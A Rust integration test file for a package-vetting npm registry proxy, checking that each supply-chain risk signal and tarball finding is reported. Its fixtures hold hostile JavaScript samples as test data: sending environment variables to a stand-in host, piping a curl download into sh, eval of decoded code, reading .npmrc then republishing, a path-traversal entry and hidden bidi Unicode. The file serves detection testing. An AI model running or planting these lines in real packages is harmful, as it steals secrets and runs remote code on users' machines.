//! Each signal and each finding, shown by a release through a real server. A name that is added does not compile without a
//! release here.

use std::time::Duration;

use coldframe::npm::{Algorithm, Digest};
use coldframe::vetting::{Finding, Signal};
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::harness::Scene;
use crate::package::{Package, days, hours, minutes, tarball};
use crate::provenance::Attested;
use crate::signing::{KEY, RegistryKey};
use crate::sigstore::PROVENANCE_TYPE;

/// A version that shows a name, and the releases that it is published with.
struct Shown {
    spec: &'static str,
    releases: Vec<Package>,
}

/// A release with everything that the registry states of it.
fn stated(name: &str, version: &str, age: Duration) -> Package {
    Package::new(name, version)
        .field("_npmUser", json!({ "name": "ada", "email": "ada@x.example" }))
        .field("maintainers", json!([{ "name": "ada" }]))
        .field("repository", json!({ "type": "git", "url": "git+https://github.com/acme/demo.git" }))
        .field("gitHead", "c0ffee")
        .dist("signatures", json!([{ "keyid": "unknown", "sig": "AAAA" }]))
        .dist("unpackedSize", 50_000)
        .aged(age)
}

fn old(patch: u64) -> Package {
    stated("demo", &format!("1.0.{patch}"), days(300 - 10 * patch))
}

fn new() -> Package {
    stated("demo", "1.1.0", days(4))
}

/// Four old releases, and `release` as `demo@1.1.0`.
fn after_old(release: Package) -> Shown {
    Shown { spec: "demo@1.1.0", releases: (0..4).map(old).chain([release]).collect() }
}

fn attested(package: Package) -> Package {
    let provenance = json!({ "predicateType": PROVENANCE_TYPE });
    package.dist("attestations", json!({ "url": "https://registry.example/a", "provenance": provenance }))
}

fn from_ci(package: Package) -> Package {
    let user = json!({ "name": "ada", "email": "ada@x.example", "trustedPublisher": { "id": "github" } });
    package.field("_npmUser", user)
}

/// Four old releases that `change` is applied to if `applies` accepts their number, and a new one without the change.
fn lost(change: fn(Package) -> Package, applies: fn(u64) -> bool) -> Shown {
    let releases = (0..4).map(|patch| if applies(patch) { change(old(patch)) } else { old(patch) });
    Shown { spec: "demo@1.1.0", releases: releases.chain([new()]).collect() }
}

/// Returns what shows a signal; `None` if that needs more than packuments.
fn with_signal(signal: Signal) -> Option<Shown> {
    Some(match signal {
        Signal::FirstInstallScript => after_old(new().script("postinstall", "node setup.js")),
        Signal::BindingGypAdded => after_old(new().field("gypfile", true)),
        Signal::RemoteDependencyAdded => after_old(new().depends_on("helper", "git+https://git.example/helper.git")),
        Signal::ProvenanceLost => lost(attested, |_| true),
        Signal::TrustedPublisherLost => lost(from_ci, |_| true),
        Signal::ProvenanceDropped => lost(attested, |patch| patch % 2 == 1),
        Signal::CiToHuman => lost(from_ci, |patch| patch % 2 == 1),
        Signal::NewbornDependency => {
            let mut shown = after_old(new().depends_on("helper", "^1.0.0"));
            shown.releases.push(Package::new("helper", "1.0.0").aged(days(4) + hours(18)));
            shown
        }
        Signal::NewDependency => {
            let mut shown = after_old(new().depends_on("helper", "^1.0.0"));
            shown.releases.push(Package::new("helper", "1.0.0"));
            shown
        }
        Signal::NewPublisher => after_old(new().field("_npmUser", json!({ "name": "eve", "email": "eve@x.example" }))),
        Signal::PublisherEmailChanged => after_old(new().field("_npmUser", json!({ "name": "ada", "email": "ada@y.example" }))),
        Signal::Dormant => Shown { spec: "demo@1.1.0", releases: vec![stated("demo", "1.0.0", days(500)), new()] },
        Signal::ReleaseBurst => {
            let mut shown = after_old(new());
            shown.releases.push(stated("demo", "0.9.1", days(4) + minutes(5)).tagged("legacy"));
            shown
        }
        Signal::SizeJump => after_old(new().dist("unpackedSize", 500_000)),
        Signal::DeprecatedYoung => after_old(new().deprecated("use another package")),
        Signal::VersionJump => {
            let mut shown = after_old(stated("demo", "99.0.0", days(4)));
            shown.spec = "demo@99.0.0";
            shown
        }
        Signal::MaintainersChanged => after_old(new().field("maintainers", json!([{ "name": "ada" }, { "name": "eve" }]))),
        Signal::CommitLost => after_old(new().field("gitHead", Value::Null)),
        Signal::ShrinkwrapAdded => after_old(new().field("_hasShrinkwrap", true)),
        Signal::BinAdded => after_old(new().field("bin", json!({ "demo": "index.js" }))),
        Signal::RepositoryChanged => {
            after_old(new().field("repository", json!({ "type": "git", "url": "git+https://github.com/eve/demo.git" })))
        }
        Signal::OffRhythm => {
            let usual = (0..10).map(|patch| stated("demo", &format!("1.0.{patch}"), days(300 - 2 * patch)));
            Shown { spec: "demo@1.1.0", releases: usual.chain([new()]).collect() }
        }
        Signal::LookalikeName => Shown { spec: "lodahs@1.0.0", releases: vec![stated("lodahs", "1.0.0", days(4))] },
        Signal::SignatureLost | Signal::ProvenanceRepositoryChanged | Signal::ProvenanceWorkflowChanged => return None,
    })
}

async fn facts(scene: &Scene, spec: &str) -> Value {
    scene.get(&format!("/-/coldframe/explain/{spec}")).accept("application/json").await.is(200).json()["facts"].clone()
}

fn publish(scene: &Scene, releases: Vec<Package>) {
    scene.registry.absent("helper");
    for release in releases {
        scene.publish(release);
    }
}

/// Returns the facts of a release that shows a signal of what it was signed with or built from.
async fn facts_of_origin(signal: Signal) -> Value {
    if signal == Signal::SignatureLost {
        let (key, folder) = (RegistryKey::new(), TempDir::new().unwrap());
        let scene = Scene::open().set("signing-keys", &key.file(&folder, None)).await;
        publish(&scene, (0..4).map(|patch| key.signed(old(patch))).collect());
        scene.publish(new().dist("signatures", json!([])));
        return facts(&scene, "demo@1.1.0").await;
    }
    let attested = Attested::open().await;
    attested.publish_old();
    attested.publish(Package::new("demo", "1.1.0").aged(days(4)), |build| match signal {
        Signal::ProvenanceRepositoryChanged => "https://github.com/eve/demo".clone_into(&mut build.repository),
        _ => ".github/workflows/other.yml".clone_into(&mut build.workflow),
    });
    facts(&attested.scene, "demo@1.1.0").await
}

#[tokio::test]
async fn release_like_those_before_it_shows_no_signal() {
    let scene = Scene::open().await;
    publish(&scene, after_old(new()).releases);
    assert_eq!(facts(&scene, "demo@1.1.0").await["signals"], json!([]));
}

#[tokio::test]
async fn every_signal_is_shown_by_a_release_that_has_it() {
    for signal in Signal::ALL.iter().copied() {
        let facts = match with_signal(signal) {
            Some(Shown { spec, releases }) => {
                let scene = Scene::open().await;
                publish(&scene, releases);
                facts(&scene, spec).await
            }
            None => facts_of_origin(signal).await,
        };
        let shown = facts["signals"].as_array().unwrap();
        assert!(shown.contains(&json!(signal.as_str())), "{} is not shown: {facts}", signal.as_str());
    }
}

const PLAIN: &str = "module.exports = (a) => a + 1;\n";

/// A tarball's files, `package.json` aside.
type Files<'a> = &'a [(&'a str, &'a str)];

/// A release whose packument and `package.json` state the same.
fn packed(version: &str, more: &Value, files: Files<'_>) -> Package {
    let mut manifest = json!({ "name": "demo", "version": version, "main": "index.js" });
    let mut package = Package::new("demo", version);
    for (key, value) in more.as_object().unwrap() {
        manifest[key] = value.clone();
        package = package.field(key, value.clone());
    }
    package.packed(archive(&manifest, files))
}

fn archive(manifest: &Value, files: Files<'_>) -> Vec<u8> {
    let paths: Vec<(String, &str)> = files.iter().map(|(path, text)| (format!("package/{path}"), *text)).collect();
    let manifest = manifest.to_string();
    let rest = paths.iter().map(|(path, text)| (&**path, *text));
    tarball(&[("package/package.json", &*manifest)].into_iter().chain(rest).collect::<Vec<_>>())
}

/// An old release with plain code, and one with these files.
fn changed(files: Files<'_>) -> (Package, Package) {
    (packed("1.0.0", &json!({}), &[("index.js", PLAIN)]), packed("1.1.0", &json!({}), files))
}

/// Returns an old release, and a new one whose tarball shows a finding; `None` if that needs more than tarballs.
fn with_finding(finding: Finding) -> Option<(Package, Package)> {
    let plain = || packed("1.0.0", &json!({}), &[("index.js", PLAIN)]);
    let repacked = |files: Files<'_>| (plain(), Package::new("demo", "1.1.0").packed(tarball(files)));
    let manifest = r#"{"name":"demo","version":"1.1.0","main":"index.js"}"#;
    Some(match finding {
        Finding::ManifestConfusion => {
            repacked(&[("package/package.json", r#"{"name":"demo","version":"1.1.0","dependencies":{"a":"1"}}"#)])
        }
        Finding::ImplicitBuild => repacked(&[("package/package.json", manifest), ("package/binding.gyp", "{'targets':[]}")]),
        Finding::Unreadable => (plain(), Package::new("demo", "1.1.0").packed(b"not an archive".to_vec())),
        Finding::UnsafeArchive => repacked(&[("package/package.json", manifest), ("package/../../.bashrc", "evil")]),
        Finding::AmbiguousArchive => repacked(&[("package/package.json", manifest), ("other/index.js", PLAIN)]),
        Finding::ArchiveBomb => {
            let paths: Vec<String> = (0..10_100).map(|at| format!("package/{at}.txt")).collect();
            let files = paths.iter().map(|path| (&**path, "")).chain([("package/package.json", manifest)]);
            repacked(&files.collect::<Vec<_>>())
        }
        Finding::InstallFileAdded => {
            let script = |file: &str| json!({ "scripts": { "postinstall": format!("node {file}") } });
            let files: Files<'_> = &[("index.js", PLAIN), ("a.js", PLAIN), ("b.js", PLAIN)];
            (packed("1.0.0", &script("a.js"), files), packed("1.1.0", &script("b.js"), files))
        }
        Finding::EntryFileAdded => {
            let files: Files<'_> = &[("index.js", PLAIN), ("other.js", PLAIN)];
            (packed("1.0.0", &json!({}), files), packed("1.1.0", &json!({ "main": "other.js" }), files))
        }
        Finding::NativeCodeAdded => changed(&[("index.js", PLAIN), ("x.bin", "\u{7f}ELF")]),
        Finding::BlobAdded => changed(&[("index.js", PLAIN), ("x.js", &"var a=1;".repeat(999))]),
        Finding::FileGrew => changed(&[("index.js", &"var a = 1;\n".repeat(9_999))]),
        Finding::SecretsToNetwork => changed(&[("index.js", "fetch(`https://x.example/${JSON.stringify(process.env)}`)")]),
        Finding::DownloadAndRun => changed(&[("index.js", "require('child_process').exec('curl -sL https://x.example/a | sh')")]),
        Finding::RunsDecodedCode => changed(&[("index.js", "eval(atob('YQ'))")]),
        Finding::SelfPropagation => {
            changed(&[("index.js", "const t = fs.readFileSync('.npmrc');\nfetch('https://x.example');\nexec('npm publish')")])
        }
        Finding::HiddenUnicode => changed(&[("index.js", "if (admin /*\u{202e} } \u{2066}*/) {}")]),
        Finding::ObfuscatedCode => {
            changed(&[("index.js", &(0..40).map(|at| format!("const _0x{at:04x}=1;")).collect::<Vec<_>>().concat())])
        }
        Finding::SuspiciousInstall => {
            let (script, setup) = (
                json!({ "scripts": { "postinstall": "node setup.js" } }),
                "const s = atob('Y3VybA==');\nrequire('child_process').exec(s);\n",
            );
            let before = packed("1.0.0", &script, &[("index.js", PLAIN), ("setup.js", "console.log('thank you')\n")]);
            (before, packed("1.1.0", &script, &[("index.js", PLAIN), ("setup.js", setup)]))
        }
        Finding::AdvisedIntegrity | Finding::AdvisedFile | Finding::FalseSignature | Finding::FalseProvenance => return None,
    })
}

/// Returns the facts of a release with a finding that feeds, signatures or attestations show.
async fn facts_of_other(finding: Finding) -> Value {
    let release = || packed("1.1.0", &json!({}), &[("index.js", PLAIN)]).aged(days(4));
    let folder = TempDir::new().unwrap();
    let scene = match finding {
        Finding::FalseSignature => {
            let key = RegistryKey::new();
            let scene = Scene::open().set("signing-keys", &key.file(&folder, None)).await;
            publish(&scene, (0..4).map(|patch| key.signed(old(patch))).collect());
            scene.publish(release().dist("signatures", json!([{ "keyid": KEY, "sig": "AAAA" }])));
            scene
        }
        Finding::FalseProvenance => {
            let attested = Attested::open().await;
            attested.publish_old();
            attested.publish(release(), |build| "pkg:npm/other@1.1.0".clone_into(&mut build.subject));
            return facts(&attested.scene, "demo@1.1.0").await;
        }
        _ => {
            let hex = |bytes: &[u8]| Digest::of(Algorithm::Sha256, bytes).to_hex();
            let indicators = match finding {
                Finding::AdvisedFile => json!({ "evidence_files": [{ "sha256": hex(PLAIN.as_bytes()) }] }),
                _ => json!({ "package_integrity": [{ "hashes": { "sha256": hex(&release().tarball) } }] }),
            };
            let affected = json!([{
                "package": { "ecosystem": "npm", "name": "other" }, "versions": ["1.0.0"],
                "database_specific": { "indicators": indicators },
            }]);
            let record = json!({ "id": "MAL-2026-1", "modified": "2026-04-03T10:00:00Z", "affected": affected });
            std::fs::write(folder.path().join("MAL-2026-1.json"), record.to_string()).unwrap();
            let scene = Scene::open().set("feed", folder.path().to_str().unwrap()).await;
            scene.publish(Package::new("demo", "1.0.0").aged(days(60)));
            scene.publish(release());
            scene
        }
    };
    scene.get("/demo/-/demo-1.1.0.tgz").await.is(403);
    facts(&scene, "demo@1.1.0").await
}

#[tokio::test]
async fn every_finding_is_shown_by_a_tarball_that_has_it() {
    for finding in Finding::ALL.iter().copied() {
        let facts = match with_finding(finding) {
            Some((before, release)) => {
                let scene = Scene::open().set("vetting-memory", "10MB").await;
                publish(&scene, vec![before.aged(days(60)), release.aged(days(4))]);
                let answer = scene.get("/demo/-/demo-1.1.0.tgz").await;
                assert!([200, 403].contains(&answer.status), "{}: {}", finding.as_str(), answer.text());
                facts(&scene, "demo@1.1.0").await
            }
            None => facts_of_other(finding).await,
        };
        let shown = facts["findings"].as_array().unwrap();
        let is_it = |shown: &Value| shown["finding"] == finding.as_str() && shown["detail"] != "";
        assert!(shown.iter().any(is_it), "{} is not shown: {facts}", finding.as_str());
    }
}
